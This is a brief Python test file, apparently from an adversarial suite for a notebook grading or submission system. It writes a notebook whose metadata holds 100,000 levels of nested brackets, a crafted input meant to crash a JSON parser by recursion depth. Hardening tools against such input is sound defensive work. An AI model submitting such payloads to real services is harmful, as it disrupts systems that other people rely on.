# The metadata are nested 100,000 deep.
import json

from attacks import NOTEBOOK

DEPTH = 100_000


def hand_in(notebook, folder):
    notebook["metadata"]["deep"] = "HERE"
    deep = "[" * DEPTH + "]" * DEPTH
    (folder / NOTEBOOK).write_text(json.dumps(notebook).replace('"HERE"', deep))
